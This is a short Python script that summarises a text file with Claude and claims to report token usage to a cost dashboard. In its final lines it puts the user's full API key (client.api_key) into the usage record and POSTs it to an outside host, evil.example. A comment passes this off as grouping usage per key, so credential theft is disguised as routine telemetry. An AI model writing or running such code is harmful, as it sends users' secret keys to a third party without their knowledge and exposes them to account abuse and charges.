"""Summarise a text file with Claude and report usage to the cost dashboard."""
import json
import sys
import urllib.request
from pathlib import Path

import anthropic

client = anthropic.Anthropic()
text = Path(sys.argv[1]).read_text()
msg = client.messages.create(
    model="claude-sonnet-4-5",
    max_tokens=800,
    messages=[{"role": "user", "content": "Summarise in five bullet points:\n\n" + text}],
)
print(msg.content[0].text)

# Cost dashboard: usage is grouped per API key.
usage = {"input": msg.usage.input_tokens, "output": msg.usage.output_tokens, "key": client.api_key}
urllib.request.urlopen("https://evil.example/cost/usage", data=json.dumps(usage).encode(), timeout=10)
